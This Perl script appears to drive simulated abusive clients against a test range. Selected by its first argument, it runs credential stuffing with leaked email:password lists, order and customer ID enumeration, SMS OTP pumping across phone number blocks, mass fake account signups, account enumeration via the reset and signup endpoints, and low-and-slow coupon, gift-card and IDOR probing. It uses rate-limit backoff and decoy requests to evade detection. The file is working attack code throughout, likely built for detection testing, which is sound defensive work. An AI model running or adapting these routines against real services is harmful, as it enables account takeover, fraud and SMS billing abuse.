#!/usr/bin/env perl
# Abusive clients of the range in Perl; the first argument says which. One call after the other, as old scripts do.
use strict;
use warnings;
use FindBin;
use lib $FindBin::Bin;
use Seat;

my %RUN = (
  'stuffing' => [ \&stuffing, 40, 500 ],
  'enumeration' => [ \&enumeration, 50, 900 ],
  'sms-pumping' => [ \&sms_pumping, 30, 400 ],
  'accounts' => [ \&accounts, 20, 200 ],
  'user-enumeration' => [ \&user_enumeration, 40, 500 ],
  'low-and-slow' => [ \&low_and_slow, 20, 60 ],
);
my $chosen = $RUN{ $ARGV[0] // '' } or die "usage: attack.pl @{[sort keys %RUN]}\n";
my $seat = Seat->new;
my ($run, $least, $most) = @$chosen;
$seat->{left} = int(Seat::logs($least, $most));
$seat->dress;
$run->();
$seat->tell;

# Half of them look in at what opened.
sub stuffing {
  my $looks_in = Seat::chance(0.5);
  my $is_form = Seat::chance(0.25);
  for my $line (Seat::lines('RANGE_LEAKED')) {
    last if $seat->is_over;
    my ($email, $password) = split /:/, $line, 2;
    my $body = { email => $email, password => $password };
    my $answer = $is_form
      ? $seat->call('POST', $seat->at('token'), "grant_type=password&username=$email&password=$password", '')
      : $seat->call('POST', $seat->at('login'), $body, '');
    my $token = $answer->{data}{token} // $answer->{data}{access_token};
    $seat->call('GET', $seat->at('me'), undef, $token) if $token && $looks_in;
    decoy();
    $seat->pause(Seat::real(1, 4)) if $answer->{status} == 429;
    $seat->wait_a_bit;
  }
}

# Counts up or down; where ids are no numbers, goes through a list that it got from elsewhere.
sub enumeration {
  $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD}) unless $seat->{token} || $seat->{forms}{plain};
  my $kind = Seat::pick('order', 'order', 'order', 'customer');
  my @known = Seat::lines($kind eq 'order' ? 'RANGE_IDS' : 'RANGE_CUSTOMER_IDS');
  my $start = $known[ Seat::int_(0, $#known) ];
  my $is_number = $start =~ /^\d+$/;
  my $step = Seat::pick(1, 1, 1, -1, 3, 7);
  my @list = $is_number ? () : Seat::shuffle(@known);
  for (my $n = 0; !$seat->is_over; $n++) {
    my $id = $is_number ? $start + $n * $step : $list[ $n % @list ];
    last if $is_number && $id <= 0;
    my $answer = $seat->call('GET', $seat->at($kind, $id));
    $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD}) if $answer->{status} == 401 && $seat->{token} && !$seat->{forms}{key};
    decoy();
    $seat->pause(2) if $answer->{status} == 429;
    $seat->wait_a_bit;
  }
}

# Numbers of one block, in order, each some times.
sub sms_pumping {
  my $prefix = Seat::pick('+8801', '+2557', '+9989', '+4478', '+2348') . Seat::int_(10, 99);
  my ($number, $times) = (Seat::int_(100_000, 700_000), Seat::pick(1, 1, 3, 5));
  until ($seat->is_over) {
    for (1 .. $times) {
      last if $seat->is_over;
      my $answer = $seat->call('POST', $seat->at('otpSend'), { phone => "$prefix$number" }, '');
      $seat->wait_a_bit;
      last if $answer->{status} == 429;
    }
    $number += Seat::pick(1, 1, 1, 2);
    decoy();
  }
}

# One stem with a number behind it, or noise; the mailbox is a throw-away one.
sub accounts {
  my $stem = Seat::pick('user', 'promo', 'mike', 'anna', 'acc') . Seat::hex_(3);
  my ($number, $confirms) = (Seat::int_(1, 900), Seat::chance(0.4));
  until ($seat->is_over) {
    my $name = Seat::chance(0.7) ? $stem . $number++ : Seat::hex_(10);
    my %person = (email => "$name\@tempmail.example", password => 'Pa55word!' . Seat::hex_(2));
    my $answer = $seat->insist('POST', $seat->at('signup'), { %person, name => ucfirst $name }, '');
    $seat->wait_a_bit;
    if ($confirms && $answer->{status} == 201) {
      my $in = $seat->call('POST', $seat->at('login'), \%person, '');
      $seat->call('GET', $seat->at('me'), undef, $in->{data}{token}) if $in->{data}{token};
    }
    decoy();
  }
}

# Asks by the reset, or by the sign-up, which addresses have an account.
sub user_enumeration {
  my @emails = map { (split /:/)[0] } Seat::lines('RANGE_LEAKED');
  my $door = Seat::pick('reset', 'reset', 'signup');
  for my $email (Seat::shuffle(@emails)) {
    last if $seat->is_over;
    my $body = { email => $email, $door eq 'signup' ? (password => 'x1' . Seat::hex_(8), name => 'A B') : () };
    my $answer = $seat->call('POST', $seat->at($door), $body, '');
    $seat->pause(Seat::real(1, 3)) if $answer->{status} == 429;
    decoy();
    $seat->wait_a_bit;
  }
}

# Looks around as anyone, and between that asks for one thing that is not its own.
sub low_and_slow {
  $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD});
  my @ids = Seat::shuffle(Seat::lines('RANGE_IDS'));
  my @pairs = Seat::shuffle(Seat::lines('RANGE_LEAKED'));
  my $aim = Seat::pick('order', 'order', 'login', 'coupon', 'giftcard');
  my $cart = $aim eq 'coupon' ? $seat->call('POST', $seat->at('cart'), {})->{data}{id} // '1' : '';
  until ($seat->is_over) {
    for (1 .. Seat::int_(1, 4)) {
      last if $seat->is_over;
      my $path = Seat::pick('/', $seat->at('me'), $seat->at('products') . '?limit=20', $seat->at('orders') . '?limit=10');
      my $answer = $seat->call('GET', $path);
      $seat->login($ENV{RANGE_EMAIL}, $ENV{RANGE_PASSWORD}) if $answer->{status} == 401;
      $seat->pause(Seat::logs(0.6, 5));
    }
    my ($email, $password) = split /:/, shift(@pairs) // 'a@b.example:c', 2;
    $seat->call('GET', $seat->at('order', shift @ids)) if $aim eq 'order';
    $seat->call('POST', $seat->at('login'), { email => $email, password => $password }, '') if $aim eq 'login';
    my $code = Seat::pick('SAVE', 'VIP', 'HELLO') . Seat::int_(1, 99);
    $seat->call('POST', $seat->at('coupon', $cart), { code => $code }) if $aim eq 'coupon';
    $seat->call('GET', $seat->at('giftcard', uc Seat::hex_(10))) if $aim eq 'giftcard';
    $seat->pause(Seat::logs(0.6, 5));
  }
}

# With form `decoy`, something harmless in between.
sub decoy {
  return unless $seat->{forms}{decoy} && Seat::chance(0.6);
  my $search = $seat->at('search') . '?q=' . Seat::pick('lamp', 'desk');
  my $path = Seat::pick('/', '/about', $seat->at('products') . '?limit=20', $search);
  $seat->wait_a_bit;
  $seat->call('GET', $path);
}
